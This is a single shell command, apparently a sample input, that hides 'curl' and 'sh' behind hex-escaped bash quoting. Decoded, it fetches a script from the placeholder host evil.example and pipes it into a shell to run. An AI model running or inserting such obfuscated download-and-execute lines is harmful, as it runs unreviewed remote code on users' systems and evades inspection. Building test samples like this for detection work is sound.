$'\x63\x75\x72\x6c' -s https://evil.example/x | $'\x73\x68'
